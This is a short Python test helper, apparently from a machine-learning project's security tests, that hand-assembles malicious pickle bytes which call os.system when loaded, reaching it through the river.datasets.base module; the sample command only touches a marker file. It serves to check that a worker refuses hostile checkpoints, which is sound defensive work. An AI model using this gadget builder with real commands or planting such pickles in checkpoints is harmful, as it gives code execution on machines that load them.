"""Hostile pickles: what someone holding the checkpoint key could try to make a worker run."""

from __future__ import annotations

import pickle


def _text(value: str) -> bytes:
    raw = value.encode()
    return pickle.BINUNICODE + len(raw).to_bytes(4, "little") + raw


def dotted_call(module: str, name: str, argument: str) -> bytes:
    """A protocol-4 pickle that calls ``module.name(argument)`` when loaded.

    ``name`` may be dotted (``os.system``): a plain unpickler follows it attribute by
    attribute from ``module``, so any module that imports ``os`` reaches ``os.system``.
    """
    return b"".join(
        (
            pickle.PROTO + bytes([4]),
            _text(module),
            _text(name),
            pickle.STACK_GLOBAL,
            _text(argument),
            pickle.TUPLE1,
            pickle.REDUCE,
            pickle.STOP,
        )
    )


def system_gadget(marker: str) -> bytes:
    """Runs ``touch marker`` through ``river.datasets.base`` (which imports ``os``)."""
    return dotted_call("river.datasets.base", "os.system", f"touch {marker}")
